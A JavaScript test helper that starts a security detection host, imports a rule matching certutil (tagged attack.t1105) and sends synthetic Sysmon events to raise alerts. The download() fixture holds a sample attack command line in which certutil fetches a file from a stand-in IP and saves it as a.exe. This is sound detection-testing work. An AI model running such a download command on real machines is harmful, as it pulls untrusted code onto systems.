// The built binary as a real process on a data directory of its own, and what a person types beside it.
import { execFile, spawn } from "node:child_process";
import { randomUUID } from "node:crypto";
import { existsSync } from "node:fs";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { promisify } from "node:util";

const run = promisify(execFile);
const root = fileURLToPath(new URL("../../", import.meta.url));
const binary = join(root, "artifacts/bin/McpSecurity.Host/debug/mcpsec");

export const exampleRules = join(root, "examples/rules");

export class Host {
  /** Starts a host; `port` 0 takes a free one. Resolves once it is ready and has printed its link. */
  static async start({ data = null, port = 0 } = {}) {
    if (!existsSync(binary)) throw new Error(`The host is not built: ${binary} is missing.`);
    const host = new Host();
    host.data = data ?? await mkdtemp(join(tmpdir(), "mcpsec-page-"));
    host.process = spawn(binary, ["serve", "--data", host.data, "--urls", `http://127.0.0.1:${port}`, "--json"],
      { stdio: ["ignore", "pipe", "pipe"] });
    host.ended = new Promise((resolve) => host.process.once("exit", resolve));
    let talk = "";
    let ready = "";
    await new Promise((resolve, reject) => {
      const look = () => {
        host.link = talk.match(/^page +(\S+)/m)?.[1];
        if (host.link && ready.includes("\n")) resolve();
      };
      host.process.stdout.on("data", (text) => { ready += text; look(); });
      host.process.stderr.on("data", (text) => { talk += text; look(); });
      host.ended.then(() => reject(new Error(`The host did not become ready: ${talk}`)));
    });
    const line = JSON.parse(ready);
    host.url = line.url;
    host.port = Number(new URL(line.url).port);
    host.ingestToken = line.ingestToken;
    host.administratorToken = JSON.parse(await readFile(join(host.data, "run/server.json"), "utf8")).token;
    while (!(await fetch(`${host.url}/health/ready`)).ok);
    return host;
  }

  /** Runs a verb of the command line against this host. */
  async command(...args) {
    return (await run(binary, ["--data", this.data, ...args])).stdout;
  }

  /** Imports one rule as a pack of its own; without `command` every `download()` matches it. */
  async importRule({ title, level, tag = "attack.t1105", command = "certutil" }) {
    const folder = await mkdtemp(join(tmpdir(), "mcpsec-page-rule-"));
    try {
      // JSON is YAML, and needs no thought about quotes.
      await writeFile(join(folder, "rule.yml"), JSON.stringify({
        title,
        id: randomUUID(),
        status: "stable",
        level,
        tags: [tag],
        logsource: { category: "process_creation", product: "windows" },
        detection: { start: { "CommandLine|contains": command }, condition: "start" },
      }));
      const said = await this.command("rules", "import", folder);
      if (!said.includes("1 of 1 compile")) throw new Error(said);
    } finally {
      await rm(folder, { recursive: true });
    }
  }

  /** Sends events with the ingest token; fails when one is rejected. */
  async send(...events) {
    const answer = await fetch(`${this.url}/api/v1/events`, {
      method: "POST",
      headers: { authorization: `Bearer ${this.ingestToken}` },
      body: events.map((event) => JSON.stringify(event)).join("\n"),
    });
    const result = await answer.json();
    if (!answer.ok || result.accepted !== events.length) throw new Error(JSON.stringify(result));
  }

  /** Resolves once the API lists an alert about a computer. */
  async untilAlert(computer) {
    const headers = { authorization: `Bearer ${this.administratorToken}` };
    const isThere = async () => (await (await fetch(`${this.url}/api/v1/alerts?limit=1000`, { headers })).json())
      .items.some((alert) => alert.entities["host.name"] === computer);
    while (!(await isThere()));
  }

  /** A crash: the host ends at once and cannot say good-bye; its database goes with it. */
  async kill() {
    this.process.kill("SIGKILL");
    await this.ended;
  }

  /** Stops the host and removes its directory. */
  async stop() {
    if (this.process.exitCode === null && this.process.signalCode === null) this.process.kill("SIGTERM");
    await this.ended;
    await rm(this.data, { recursive: true, force: true });
  }
}

let minute = 0;

/** A process start that the example rule about certutil matches; each call is a different event, a minute later. */
export function download(overrides = {}) {
  minute += 1;
  return {
    "@timestamp": new Date(Date.UTC(2026, 10, 20, 9, minute)).toISOString(),
    Channel: "Microsoft-Windows-Sysmon/Operational",
    EventID: 1,
    Computer: "ws-042",
    User: "CORP\\lee",
    Image: "C:\\Windows\\System32\\certutil.exe",
    CommandLine: `certutil.exe -urlcache -f http://198.51.100.7/${minute}.txt a.exe`,
    ParentImage: "C:\\Windows\\System32\\cmd.exe",
    ...overrides,
  };
}
